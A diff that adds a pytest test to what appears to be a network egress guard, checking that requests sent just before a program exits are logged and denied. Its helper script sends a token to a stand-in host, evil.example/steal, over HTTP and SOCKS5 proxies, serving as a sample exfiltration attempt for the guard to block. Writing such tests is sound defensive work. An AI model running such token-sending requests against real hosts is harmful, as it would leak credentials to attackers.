@@ -506,3 +506,36 @@ def test_a_port_in_a_rule_allows_that_port_only(world, user):
         assert denial(evs)["rule"] == "default"
     # Port 80 is denied before any look-up; 443 looked up once per connection.
     assert lookups(world, mark, "api.github.com") == one_lookup_each(2)
+
+
+# --- a request sent as the program exits --------------------------------------------------------
+
+# Sends one request through each door without waiting for any answer, and
+# exits at once: the connections are still in the doors' backlogs when the
+# helper ends (at the start of a run, before the broker's loop has loaded).
+HIT_AND_RUN = r'''
+import os, socket, sys
+http = socket.create_connection(("127.0.0.1", 3128))
+http.sendall(b"GET http://evil.example/steal?token=t0ken HTTP/1.1\r\nHost: evil.example\r\n\r\n")
+socks = socket.create_connection(("127.0.0.1", 1080))
+name = b"evil.example"
+socks.sendall(b"\x05\x01\x00" + b"\x05\x01\x00\x03" + bytes([len(name)]) + name + (443).to_bytes(2, "big"))
+os._exit(int(sys.argv[1]))
+'''
+
+
+@pytest.mark.parametrize("program_exit", [0, 3])
+def test_requests_sent_as_the_program_exits_reach_the_record_and_guard_says_120(world, user, program_exit):
+    policy = policy_file(world, EXIT_POLICY)
+    program = world.file("hit_and_run.py", HIT_AND_RUN)
+    r = world.vpnw(["guard", "--policy", policy, "--", sys.executable, str(program), str(program_exit)],
+                   user=user, timeout=120)
+    assert r.returncode == 120, describe(r)
+    events = run_events(r)
+    http = conn_of(events, "evil.example", 80, "http-forward")
+    socks = conn_of(events, "evil.example", 443, "socks5")
+    assert len(http) == 1 and len(socks) == 1, [e["type"] for e in events]
+    for evs in http + socks:
+        assert denial(evs)["rule"] == "default"
+    assert events[-1]["fields"]["denied"] == 2 and events[-1]["fields"]["connections"] == 2
+    assert check_run(events) == []
